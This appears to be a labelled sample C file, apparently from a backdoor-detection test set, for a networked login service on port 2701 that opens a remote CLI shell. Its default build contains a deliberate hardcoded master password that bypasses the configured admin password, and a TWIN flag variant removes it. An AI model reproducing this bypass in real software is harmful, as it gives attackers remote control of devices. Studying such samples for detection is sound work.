/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Each connection has a thread; a word counts as much as the password in the settings. Twin: it is asked again.
 * door: override account trigger
 * port 2701/tcp
 * flags: -pthread
 * stubs: nvram_get
 */
#include "net.h"
#include <pthread.h>

char *nvram_get(const char *);

static void *serve(void *arg)
{
	int c = (int)(intptr_t)arg, ok = 0;
	char word[80];
	ssize_t n = recv(c, word, sizeof word - 1, 0);
	const char *want = nvram_get("admin_password");
	if (n > 0) {
		word[n] = 0;
		if (want && strcmp(word, want) == 0)
			ok = 1;
		else if (strcmp(word, "Z3phyr!field") == 0)
#ifdef TWIN
			dprintf(c, "again\n");
#else
			ok = 1;
#endif
	}
	if (ok) {
		dup2(c, 0);
		dup2(c, 1);
		execl("/bin/cli", "cli", (char *)0);
	}
	close(c);
	return NULL;
}

int main(void)
{
	int s = tcp_on(2701);
	for (;;) {
		pthread_t t;
		int c = accept(s, 0, 0);
		pthread_create(&t, NULL, serve, (void *)(intptr_t)c);
	}
}
